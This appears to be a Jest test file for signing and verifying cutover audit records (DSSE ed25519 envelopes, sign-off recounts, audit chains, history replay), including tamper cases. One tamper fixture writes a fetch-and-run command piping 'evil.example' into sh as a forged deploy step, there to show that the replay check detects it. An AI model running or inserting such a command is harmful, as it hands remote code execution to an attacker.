/**
 * The record an auditor verifies offline (`cutover export`, `cutover verify`), from real cutovers on the
 * time-skipping server: a completed cutover with attested sign-offs (and an output diff with one allowed differing
 * row), a rejected and a rolled-back one export and verify, with the audit trail the workflow chained as it went;
 * the DSSE signature verifies with an independent implementation of the spec's PAE (node:crypto, written here); a
 * record changed after its export fails at the envelope; a record signed by a key the auditor does not trust fails;
 * and where the signer itself lies (re-signed), the evidence digest, the gate's recount and the audit chain name
 * what was changed.
 */
import { createPublicKey, verify as cryptoVerify } from 'node:crypto';
import { ed25519 } from '@noble/curves/ed25519';
import type { Client } from '@temporalio/client';
import { attestSignOff, type Cutovers } from '../../lib/api';
import {
  chainAudit,
  signRecord,
  verifyRecord,
  type Check,
  type Envelope,
  type Statement,
  type Trust,
} from '../../lib/record';
import { exportRecord } from '../../lib/record-export';
import { replayChecks } from '../../lib/record-replay';
import { historyFromJSON, historyToJSON } from '@temporalio/common/lib/proto-utils';
import { createHash } from 'node:crypto';
import { cutoverWorkflow } from '../../workflows';
import { requestRollbackSignal, statusQuery, submitSignOffUpdate } from '../../workflows/messages';
import { chainStart } from '../../workflows/digest';
import { APPROVERS, timeSkippingWorker, uniqueId, waitForStatus } from '../helpers/harness';
import { makePlan, makePlanInput, nodeRun } from '../helpers/plans';
import type { ShadowResult } from '../../shapes/phases';

const hex = (bytes: Uint8Array) => Buffer.from(bytes).toString('hex');
const sha256Hex = (text: string) => createHash('sha256').update(text, 'utf8').digest('hex');
const appKey = ed25519.utils.randomPrivateKey();
const workersKey = ed25519.utils.randomPrivateKey();
const strangerKey = ed25519.utils.randomPrivateKey();
const signer = { keyId: 'workers-2026', privateKey: workersKey };
const trust: Trust = {
  workers: { 'workers-2026': hex(ed25519.getPublicKey(workersKey)) },
  attesters: { 'app-1': hex(ed25519.getPublicKey(appKey)) },
};
const t = timeSkippingWorker({ attestation: { keys: trust.attesters ?? {}, require: true, maxAge: '10m' } });
const ISSUER = 'https://login.example';

const cutoversOf = (client: Client) => ({ client, namespace: 'default' }) as unknown as Cutovers;

/**
 * Runs a cutover to its end: every role attested and approving, or qa rejecting once the others approved, or every
 * role approving and operations rolling production back while it is monitored.
 */
async function runCutover(end: 'approve' | 'reject' | 'roll back'): Promise<string> {
  const input = makePlanInput();
  const { production } = input;
  const plan =
    end === 'roll back'
      ? makePlan({ production: { ...production, monitor: { ...production.monitor, window: '24h' } } })
      : end === 'approve'
        ? makePlan(withOutput(input))
        : makePlan();
  const handle = await t.env.client.workflow.start(cutoverWorkflow, {
    taskQueue: t.taskQueue,
    workflowId: uniqueId('record'),
    args: [plan],
  });
  const gate = await waitForStatus(handle, (s) => s.state === 'awaiting-signoff');
  const digest = gate.evidenceDigest as string;
  for (const [role, approver] of Object.entries(APPROVERS)) {
    const decision = end === 'reject' && role === 'qa' ? ('reject' as const) : ('approve' as const);
    const signOff = { role, approver, decision };
    // Attested at the server's time: time skipped through the first cutover's windows is days ahead of ours.
    const now = new Date(await t.env.currentTimeMs());
    const attestation = attestSignOff(
      { keyId: 'app-1', privateKey: appKey },
      { workflowId: handle.workflowId, digest },
      signOff,
      { issuer: ISSUER, subject: `sub-${approver}`, issuedAt: now },
    );
    const answer = await handle.executeUpdate(submitSignOffUpdate, {
      args: [{ ...signOff, evidenceDigest: digest, attestation }],
    });
    expect(answer).toMatchObject({ accepted: true });
    if (decision === 'reject') break;
  }
  if (end === 'roll back') {
    await waitForStatus(handle, (s) => s.state === 'monitoring');
    await handle.signal(requestRollbackSignal, { requestedBy: 'di', reason: 'customer complaints' });
  }
  await handle.result();
  return handle.workflowId;
}

/**
 * The test plan with an output table, `t`, that V2 writes with one row's `x` changed, which the plan allows: the
 * keyed diff passes with that row as its sample.
 */
function withOutput(input: ReturnType<typeof makePlanInput>) {
  const writes = (rows: string, out: unknown) =>
    nodeRun(
      `require('fs').writeFileSync(process.argv[1], ${JSON.stringify(`id,x\n${rows}\n`)}); process.stdout.write(${JSON.stringify(JSON.stringify(out))})`,
    );
  const printed = { metrics: { TotalReceivable: 1000, PAR30: 0.1 }, rows: 10 };
  return {
    baseline: { run: [...writes('1,10\n2,20\n3,30', printed), '{output:t}'] },
    candidate: { run: [...writes('1,10\n2,21\n3,30', printed), '{output:t}'] },
    shadow: { ...input.shadow, outputs: { t: { key: ['id'], format: 'csv' as const, maxDifferingRows: 1 } } },
  };
}

let completed: Envelope;
let rejected: Envelope;
let rolledBack: Envelope;
let completedId: string;

beforeAll(async () => {
  completedId = await runCutover('approve');
  const rejectedId = await runCutover('reject');
  const rolledBackId = await runCutover('roll back');
  // A finished cutover answers its queries through a worker, as `cutover status` does.
  completed = await exportRecord(cutoversOf(t.env.client), completedId, { signer, withHistory: true });
  rejected = await exportRecord(cutoversOf(t.env.client), rejectedId, { signer });
  rolledBack = await exportRecord(cutoversOf(t.env.client), rolledBackId, { signer, withHistory: true });
}, 240_000);

const statementOf = (e: Envelope) => JSON.parse(Buffer.from(e.payload, 'base64').toString('utf8')) as Statement;
const failed = (checks: Check[]) => checks.filter((c) => !c.ok).map((c) => `${c.check}: ${c.detail}`);

/** The record changed by `change`, then signed again by the workers' own key: only the inner checks can tell. */
function reSigned(change: (s: Statement) => void, of: Envelope = completed): Envelope {
  const statement = statementOf(of);
  change(statement);
  return signRecord(statement.predicate, signer);
}

test('a completed, a rejected and a rolled-back cutover export and verify: every check holds', () => {
  for (const envelope of [completed, rejected, rolledBack]) {
    const checks = verifyRecord(envelope, trust);
    expect(failed(checks)).toEqual([]);
    expect(checks.map((c) => c.check)).toEqual(['envelope', 'statement', 'evidence', 'sign-offs', 'audit chain']);
  }
  const record = statementOf(completed).predicate;
  expect(record.outcome.state).toBe('completed');
  expect(record.gate.received).toHaveLength(5);
  expect(record.gate.received[0]?.signOff.attestation?.keyId).toBe('app-1');
  expect(record.audit.entries.length).toBeGreaterThan(5);
  expect(record.history.events).toBeGreaterThan(20);
  expect(statementOf(rejected).predicate.outcome.state).toBe('rejected');
  expect(verifyRecord(rejected, trust).find((c) => c.check === 'sign-offs')?.detail).toMatch(/gate rejected/);
  const back = statementOf(rolledBack).predicate;
  expect(back.outcome.state).toBe('rolled-back');
  expect(back.audit.entries.map((e) => e.message)).toContainEqual('rolling back (by di): customer complaints');
  expect(verifyRecord(rolledBack, trust).find((c) => c.check === 'sign-offs')?.detail).toMatch(/gate approved/);
});

test('the audit chain is the workflow’s own, written as it went: the status carries it, the export copies it', async () => {
  const status = await t.env.client.workflow.getHandle(completedId).query(statusQuery);
  const record = statementOf(completed).predicate;
  expect(status.auditHead).toBe(record.audit.head);
  expect(record.audit.entries).toEqual(status.audit);
  expect(record.audit.entries[0]?.prev).toBe(chainStart(record.workflowId, record.runId));
  // The same links the export would compute from the entries alone: nothing was chained after the fact.
  const plain = status.audit.map(({ prev: _prev, ...entry }) => entry);
  expect(chainAudit(plain, chainStart(record.workflowId, record.runId))).toEqual({
    entries: status.audit,
    head: status.auditHead,
  });
});

test('the DSSE signature verifies with an independent PAE and node:crypto, as any DSSE tool would', () => {
  // PAE(type, body) = "DSSEv1" SP LEN(type) SP type SP LEN(body) SP body, lengths in bytes as ASCII decimals.
  const body = Buffer.from(completed.payload, 'base64');
  const type = Buffer.from(completed.payloadType, 'utf8');
  const pae = Buffer.concat([Buffer.from(`DSSEv1 ${type.length} `), type, Buffer.from(` ${body.length} `), body]);
  // An ed25519 public key as SPKI DER: the fixed 12-byte prefix, then the 32 raw bytes.
  const spki = Buffer.concat([
    Buffer.from('302a300506032b6570032100', 'hex'),
    Buffer.from(ed25519.getPublicKey(workersKey)),
  ]);
  const key = createPublicKey({ key: spki, format: 'der', type: 'spki' });
  const sig = Buffer.from(completed.signatures[0]?.sig as string, 'base64');
  expect(completed.payloadType).toBe('application/vnd.in-toto+json');
  expect(completed.signatures[0]?.keyid).toBe('workers-2026');
  expect(cryptoVerify(null, pae, key, sig)).toBe(true);
  expect(cryptoVerify(null, Buffer.concat([pae, Buffer.from(' ')]), key, sig)).toBe(false);
  expect(statementOf(completed)).toMatchObject({
    _type: 'https://in-toto.io/Statement/v1',
    predicateType: 'https://cutover.dev/record/v1',
    subject: [{ digest: { sha256: statementOf(completed).predicate.history.sha256 } }],
  });
});

test.each([
  ['the plan', (s: Statement) => void (s.predicate.plan.release = 'another-release')],
  ['the policy digest', (s: Statement) => void (s.predicate.policyDigest = 'f'.repeat(64))],
  [
    'a sign-off’s approver',
    (s: Statement) =>
      void ((s.predicate.gate.received[1] as { signOff: { approver: string } }).signOff.approver = 'mallory'),
  ],
  [
    'a sign-off’s decision',
    (s: Statement) =>
      void ((s.predicate.gate.received[1] as { signOff: { decision: string } }).signOff.decision = 'reject'),
  ],
  ['an audit entry removed', (s: Statement) => void s.predicate.audit.entries.splice(2, 1)],
  ['the outcome', (s: Statement) => void (s.predicate.outcome.state = 'rolled-back')],
])('%s changed after the export: the envelope’s signature fails, and nothing else is believed', (_name, change) => {
  const statement = statementOf(completed);
  change(statement);
  const tampered = { ...completed, payload: Buffer.from(JSON.stringify(statement)).toString('base64') };
  const checks = verifyRecord(tampered, trust);
  expect(checks).toEqual([
    expect.objectContaining({ check: 'envelope', ok: false, detail: expect.stringMatching(/does not verify/) }),
  ]);
});

test('one byte of the payload changed, or the key id: the envelope fails; a key the auditor does not trust fails', () => {
  const bytes = Buffer.from(completed.payload, 'base64');
  bytes.writeUInt8(bytes.readUInt8(bytes.length - 10) ^ 1, bytes.length - 10);
  expect(failed(verifyRecord({ ...completed, payload: bytes.toString('base64') }, trust))[0]).toMatch(/^envelope: /);
  const renamed = { ...completed, signatures: [{ ...completed.signatures[0]!, keyid: 'workers-2025' }] };
  expect(failed(verifyRecord(renamed, trust))[0]).toMatch(/key id "workers-2025" is not a workers' key you trust/);
  const stranger = signRecord(statementOf(completed).predicate, { keyId: 'workers-2026', privateKey: strangerKey });
  expect(failed(verifyRecord(stranger, trust))[0]).toMatch(/does not verify with key "workers-2026"/);
});

test.each<[string, (s: Statement) => void, RegExp]>([
  [
    'a metric of the evidence',
    (s) => {
      // The first number in the shadow phase's evidence, one more.
      const bump = (value: unknown): boolean => {
        if (!value || typeof value !== 'object') return false;
        const record = value as Record<string, unknown>;
        for (const key of Object.keys(record)) {
          if (typeof record[key] === 'number') {
            record[key] += 1;
            return true;
          }
          if (bump(record[key])) return true;
        }
        return false;
      };
      expect(bump(s.predicate.evidence.shadow)).toBe(true);
    },
    /^evidence: predicate\.evidence: its digest is/,
  ],
  [
    'a sample row of a diff',
    (s) => {
      const shadow = s.predicate.evidence.shadow as ShadowResult;
      const sample = shadow.datasets[0]?.outputs?.[0]?.samples[0];
      // DuckDB's big integers come as text.
      expect(sample?.v2).toMatchObject({ x: '21' });
      sample!.v2!.x = '20';
    },
    /^evidence: predicate\.evidence: its digest is/,
  ],
  ['the policy digest', (s) => void (s.predicate.policyDigest = 'f'.repeat(64)), /^evidence: predicate\.policyDigest/],
  [
    'a sign-off’s approver',
    (s) => void (s.predicate.gate.received[1]!.signOff.approver = 'mallory'),
    /^sign-offs: predicate\.gate\.received\[1\] \(qa, mallory\): counted in the record, refused on recount \(unknown-approver/,
  ],
  [
    'a sign-off’s attestation',
    (s) => void (s.predicate.gate.received[2]!.signOff.attestation!.subject = 'sub-mallory'),
    /^sign-offs: predicate\.gate\.received\[2\] \(architecture, cy\): counted in the record, refused on recount \(bad-attestation/,
  ],
  [
    'a sign-off’s digest',
    (s) => void (s.predicate.gate.received[0]!.signOff.evidenceDigest = '0'.repeat(64)),
    /^sign-offs: predicate\.gate\.received\[0\] \(engineering, ana\): counted in the record, refused on recount \(stale-evidence/,
  ],
  [
    'a sign-off’s decision',
    (s) => void (s.predicate.gate.received[4]!.signOff.decision = 'reject'),
    /^sign-offs: predicate\.gate\.received\[4\] \(business, ed\): counted in the record, refused on recount \(bad-attestation/,
  ],
  [
    'a sign-off removed (the gate would not have opened under its own plan)',
    (s) => void s.predicate.gate.received.splice(3, 1),
    /^sign-offs: predicate\.gate\.view\.status: the record says approved, the recount under the plan's rules gives open/,
  ],
  [
    'an audit entry removed',
    (s) => void s.predicate.audit.entries.splice(2, 1),
    /^audit chain: predicate\.audit\.entries\[2\]: its prev hash/,
  ],
  [
    'two audit entries swapped',
    (s) => {
      const e = s.predicate.audit.entries;
      [e[3], e[4]] = [e[4]!, e[3]!];
    },
    /^audit chain: predicate\.audit\.entries\[3\]: its prev hash/,
  ],
  [
    'the last audit entry changed',
    (s) => void (s.predicate.audit.entries.at(-1)!.message = 'nothing happened'),
    /^audit chain: predicate\.audit\.head/,
  ],
  [
    'the history',
    // A value of the history changed (its whitespace is no part of it: the digest is of its canonical JSON).
    (s) => void (s.predicate.history.json = s.predicate.history.json?.replace(/"identity": ?"/, '"identity":"x')),
    /^statement: predicate\.history\.json/,
  ],
])('re-signed by the workers’ own key, %s is named by the check that holds it', (_name, change, named) => {
  const checks = verifyRecord(reSigned(change), trust);
  expect(failed(checks)[0]).toMatch(named);
});

test('an attester the auditor does not trust: the attested sign-offs do not recount', () => {
  const checks = verifyRecord(completed, { ...trust, attesters: {} });
  expect(failed(checks)[0]).toMatch(
    /^sign-offs: predicate\.gate\.received\[0\] \(engineering, ana\): counted in the record, refused on recount \(bad-attestation/,
  );
});

describe('--replay: the record held to its history, and the history to this release’s workflow code', () => {
  const recordOf = (e: Envelope) => statementOf(e).predicate;

  test('the completed cutover’s own history (exported with it) replays and agrees with the record', async () => {
    const checks = await replayChecks(recordOf(completed), recordOf(completed).history.json);
    expect(failed(checks)).toEqual([]);
    expect(checks.map((c) => c.check)).toEqual([
      'history',
      'replay',
      'history plan',
      'history sign-offs',
      'history audit',
      'history outcome',
      'history times',
      'history phases',
    ]);
    expect(checks.find((c) => c.check === 'history audit')?.detail).toMatch(
      new RegExp(
        `^the ${recordOf(completed).audit.entries.length} entries the replay wrote, chained as the record has them`,
      ),
    );
  }, 60_000);

  test('the rolled-back cutover’s history replays and agrees with its record', async () => {
    const checks = await replayChecks(recordOf(rolledBack), recordOf(rolledBack).history.json);
    expect(failed(checks)).toEqual([]);
    expect(checks.find((c) => c.check === 'history outcome')?.detail).toBe('ended rolled-back');
  }, 60_000);

  test('an audit entry rewritten and the chain linked anew (a lying worker) holds offline, and the replay names it', async () => {
    const record = recordOf(completed);
    const index = record.audit.entries.findIndex((e) => e.kind === 'signoff' && e.actor === 'bo');
    const rewritten = recordOf(
      reSigned((s) => {
        const plain = s.predicate.audit.entries.map(({ prev: _prev, ...entry }) => entry);
        plain[index]!.message = 'approve for qa counted (reviewed twice)';
        Object.assign(s.predicate.audit, chainAudit(plain, chainStart(record.workflowId, record.runId)));
      }),
    );
    expect(failed(verifyRecord(signRecord(rewritten, signer), trust))).toEqual([]);
    expect(failed(await replayChecks(rewritten, rewritten.history.json))).toEqual([
      expect.stringMatching(
        new RegExp(
          `^history audit: predicate\\.audit\\.entries\\[${index}\\] is not the entry the replay wrote there \\(signoff: approve for qa counted`,
        ),
      ),
    ]);
  }, 60_000);

  test('another cutover’s history is not the one the record names', async () => {
    const other = await t.env.client.workflow.getHandle(recordOf(rejected).workflowId).fetchHistory();
    const checks = await replayChecks(recordOf(completed), historyToJSON(other));
    expect(failed(checks)).toEqual([expect.stringMatching(/^history: its SHA-256 is .*another history$/)]);
  });

  test('a record whose sign-off or end differs from its history (signed again by a lying worker) names it', async () => {
    const commented = recordOf(reSigned((s) => void (s.predicate.gate.received[1]!.signOff.comment = 'looks fine')));
    // The comment is not what the attestation covers, so the recount holds; the history does not.
    expect(failed(verifyRecord(signRecord(commented, signer), trust))).toEqual([]);
    expect(failed(await replayChecks(commented, commented.history.json))).toEqual([
      'history sign-offs: predicate.gate.received[1] (qa, bo): not in the history as the record has it',
    ]);
    const rolledBack = recordOf(reSigned((s) => void (s.predicate.outcome.state = 'rolled-back')));
    expect(failed(await replayChecks(rolledBack, rolledBack.history.json))).toEqual([
      'history outcome: predicate.outcome.state is rolled-back, the history ended completed',
    ]);
  }, 60_000);

  test('every field to the history: a state past a gate that never opened, a figure changed, an end a week on, entries dropped', async () => {
    // Each re-signed by a lying worker: the offline checks hold, the history does not.
    // Taken as if at the gate: the phases after it pending, yet the state says V2 is in production.
    const atGate = recordOf(
      reSigned((s) => {
        s.predicate.outcome.state = 'monitoring';
        for (const p of s.predicate.outcome.phases.slice(
          s.predicate.outcome.phases.findIndex((x) => x.phase === 'production'),
        ))
          p.outcome = 'pending';
      }),
    );
    expect(failed(await replayChecks(atGate, atGate.history.json))).toContain(
      'history phases: predicate.outcome.state is monitoring, but production has not passed',
    );
    const record = recordOf(completed);
    const shadowAt = record.outcome.phases.findIndex((p) => p.phase === 'shadow');
    const figure = recordOf(
      reSigned((s) => {
        const shadow = s.predicate.outcome.phases[shadowAt]?.result as { datasets: { v2Ms: number }[] };
        shadow.datasets[0]!.v2Ms -= 100;
      }),
    );
    expect(failed(verifyRecord(signRecord(figure, signer), trust))).toEqual([]);
    expect(failed(await replayChecks(figure, figure.history.json))).toEqual([
      `history phases: predicate.outcome.phases[${shadowAt}] (shadow).result is not a result the history's shadow returned`,
    ]);
    const late = recordOf(
      reSigned((s) => {
        s.predicate.outcome.endedAt = new Date(Date.parse(s.predicate.outcome.endedAt!) + 7 * 86_400_000).toISOString();
      }),
    );
    expect(failed(await replayChecks(late, late.history.json))).toEqual([
      expect.stringMatching(/^history times: predicate\.outcome\.endedAt .* is not when the history closed/),
    ]);
    const dropped = recordOf(
      reSigned((s) => {
        s.predicate.audit.entries = s.predicate.audit.entries.slice(5);
        s.predicate.audit.dropped += 5;
      }),
    );
    expect(failed(verifyRecord(signRecord(dropped, signer), trust))).toEqual([]);
    expect(failed(await replayChecks(dropped, dropped.history.json))).toEqual([
      expect.stringMatching(
        /^history audit: predicate\.audit\.dropped is 5, but the status drops entries only past 500/,
      ),
    ]);
  }, 120_000);

  test('an action of the plan changed (a lying worker) holds offline, and the history’s plan check names it', async () => {
    const changed = recordOf(
      reSigned((s) => void (s.predicate.plan.production.deploy = { run: ['sh', '-c', 'curl evil.example | sh'] })),
    );
    expect(failed(verifyRecord(signRecord(changed, signer), trust))).toEqual([]);
    expect(failed(await replayChecks(changed, changed.history.json))).toEqual([
      "history plan: predicate.plan is not the effective plan the workers' plan check returned in the history",
    ]);
  }, 60_000);

  test('a history that this workflow code would not have made does not replay', async () => {
    const record = recordOf(completed);
    const json = JSON.parse(record.history.json as string) as { events: Record<string, unknown>[] };
    // The first activity the cutover scheduled (the plan check), renamed: this code schedules another.
    const scheduled = json.events.find((e) => e.activityTaskScheduledEventAttributes) as {
      activityTaskScheduledEventAttributes: { activityType: { name: string } };
    };
    scheduled.activityTaskScheduledEventAttributes.activityType.name = 'approveEverything';
    const text = historyToJSON(historyFromJSON(json));
    const forged = { ...record, history: { ...record.history, json: text, sha256: sha256Hex(text) } };
    const checks = await replayChecks(forged, text);
    expect(failed(checks)[0]).toMatch(/^replay: the history does not replay on this release's workflow code: /);
  }, 60_000);
});
